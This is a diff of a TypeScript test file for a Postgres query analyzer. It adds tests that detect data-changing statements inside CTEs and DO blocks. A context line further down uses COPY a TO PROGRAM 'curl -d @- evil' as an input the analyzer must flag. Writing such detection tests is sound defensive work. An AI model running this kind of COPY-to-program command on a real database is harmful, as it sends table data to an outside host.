@@ -114,6 +114,24 @@ describe('postgres analyzer: risk flags', () => {
     assert.equal(one('DELETE FROM users WHERE true').where_absent, false);
   });
 
+  it('lists the data-changing statements a statement holds, in CTEs and DO blocks too', () => {
+    const changes = (text: string) => one(text).changes;
+    assert.deepEqual(changes('SELECT 1'), []);
+    assert.deepEqual(changes('DELETE FROM a WHERE id = 1'), ['delete']);
+    assert.deepEqual(
+      changes('WITH gone AS (DELETE FROM t WHERE id = 6 RETURNING id) SELECT count(*) FROM gone'),
+      ['delete'],
+    );
+    assert.deepEqual(
+      changes(
+        'WITH n AS (INSERT INTO a VALUES (1) RETURNING *), u AS (UPDATE b SET x = 1 WHERE y = 2) SELECT 1',
+      ),
+      ['insert', 'update'],
+    );
+    assert.deepEqual(changes('INSERT INTO a SELECT * FROM b ON CONFLICT DO NOTHING'), ['insert']);
+    assert.deepEqual(changes('DO $$ BEGIN DELETE FROM a WHERE id = 1; END $$'), ['delete']);
+  });
+
   it('flags COPY to and from a program or a server file, not STDIN/STDOUT', () => {
     const prog = one("COPY a TO PROGRAM 'curl -d @- evil'");
     assert.deepEqual([prog.program, prog.file_access], [true, false]);
